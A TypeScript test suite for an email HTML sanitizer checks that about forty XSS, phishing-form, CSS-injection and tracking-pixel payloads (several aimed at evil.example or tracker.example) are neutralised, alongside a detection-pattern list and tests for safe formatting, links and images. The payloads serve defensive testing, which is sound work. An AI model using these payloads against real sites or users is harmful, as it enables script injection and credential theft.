import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize.js';

const clean = (html: string, options?: Parameters<typeof sanitizeEmailHtml>[1]) =>
  sanitizeEmailHtml(html, options).html;

// Whatever the payload, none of these may survive in the output.
const DANGEROUS = [
  /<script/i,
  /\son[a-z]+\s*=/i, // event handlers
  /javascript:/i,
  /vbscript:/i,
  /<svg/i,
  /<math/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<textarea/i,
  /<style/i,
  /<link/i,
  /<meta/i,
  /<base/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /@import/i,
];

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<body onload=alert(1)>text</body>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<svg onload=alert(1)><circle r=10 /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<div style="background:url(javascript:alert(1))">bg</div>',
  '<div style="background-image: url(https://tracker.example/p.gif)">bg</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">old</div>',
  '<p style="color: red; background: u\\72 l(https://t.example/x)">escaped</p>',
  '<style>@import url(https://evil.example/x.css); body { background: red }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<table background="https://tracker.example/t.gif"><tr><td>cell</td></tr></table>',
  '<img src="https://tracker.example/open.gif?id=1">',
  '<img srcset="https://tracker.example/a.gif 1x">',
  '<video poster="https://tracker.example/p.gif"><source src="x.mp4"></video>',
  '<input type="image" src="https://tracker.example/b.gif">',
  '<div id="csrf-token" name="config">clobbering</div>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>after</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img """><script>alert(1)</script>">',
];

describe('sanitizing email HTML', () => {
  it.each(XSS_PAYLOADS)('neutralises %s', (payload) => {
    const out = clean(payload);
    for (const pattern of DANGEROUS) expect(out).not.toMatch(pattern);
    expect(out).not.toMatch(/tracker\.example|evil\.example/);
    expect(out).not.toMatch(/\sid=|\sname=|\sclass=/);
  });

  it('keeps the text of a message, its layout and harmless styles', () => {
    const html =
      '<table border="0" cellpadding="4" style="border-collapse: collapse"><tr><td style="color: #333333; font-family: Arial, sans-serif; font-size: 14px; padding: 4px 8px">' +
      '<p>Dear <b>Zoë</b>, <i>thank you</i>.</p><ul><li>Row F</li></ul><font color="#ff0000">Note</font></td></tr></table>';
    const out = clean(html);
    expect(out).toContain('<table border="0" cellpadding="4" style="border-collapse:collapse">');
    expect(out).toContain(
      'style="color:#333333;font-family:Arial, sans-serif;font-size:14px;padding:4px 8px"',
    );
    expect(out).toContain(
      '<p>Dear <b>Zoë</b>, <i>thank you</i>.</p><ul><li>Row F</li></ul><font color="#ff0000">Note</font>',
    );
  });

  it('keeps safe links and makes them open apart from the desk', () => {
    const out = clean(
      '<a href="https://example.org/tickets">tickets</a> <a href="mailto:a@example.org">mail</a> <a href="tel:+442079460000">call</a>',
    );
    expect(out).toBe(
      '<a href="https://example.org/tickets" target="_blank" rel="noopener noreferrer nofollow">tickets</a> ' +
        '<a href="mailto:a@example.org" target="_blank" rel="noopener noreferrer nofollow">mail</a> ' +
        '<a href="tel:+442079460000" target="_blank" rel="noopener noreferrer nofollow">call</a>',
    );
  });

  it('blocks remote images, counts them, and keeps their alt text', () => {
    const result = sanitizeEmailHtml(
      '<img src="https://cdn.example/logo.png" alt="Logo"><img src="//cdn.example/b.png">',
    );
    expect(result.blockedRemoteImages).toBe(2);
    expect(result.html).toBe(
      '<span data-blocked-image>[Logo]</span><span data-blocked-image></span>',
    );
  });

  it('shows remote images when asked to', () => {
    const result = sanitizeEmailHtml(
      '<img src="https://cdn.example/logo.png" alt="Logo"><img src="//cdn.example/b.png">',
      {
        allowRemoteImages: true,
      },
    );
    expect(result.blockedRemoteImages).toBe(0);
    expect(result.html).toBe(
      '<img src="https://cdn.example/logo.png" alt="Logo" /><img src="https://cdn.example/b.png" />',
    );
  });

  it('never lets an image point at the desk itself', () => {
    const out = clean('<img src="/api/admin/users?delete=1"><img src="../logout">', {
      allowRemoteImages: true,
    });
    expect(out).not.toContain('api/admin');
    expect(out).not.toContain('logout');
  });

  it('maps cid: images to the URLs the desk serves, and drops unknown ones', () => {
    const out = clean('<img src="cid:logo@x" alt="Logo"><img src="CID:Missing@x" alt="gone">', {
      resolveCid: (cid) => (cid === 'logo@x' ? '/api/mail/1/parts/abc' : null),
    });
    expect(out).toBe(
      '<img src="/api/mail/1/parts/abc" alt="Logo" /><span data-blocked-image>[gone]</span>',
    );
  });

  it('keeps embedded raster data: images but not SVG ones', () => {
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    expect(clean(`<img src="${png}">`)).toBe(`<img src="${png}" />`);
    expect(clean('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">')).toBe(
      '<span data-blocked-image></span>',
    );
  });

  it('drops comments, including Outlook conditional ones', () => {
    expect(clean('<!-- secret --><p>a</p><!--[if mso]><p>mso only</p><![endif]-->')).toBe(
      '<p>a</p>',
    );
  });
});
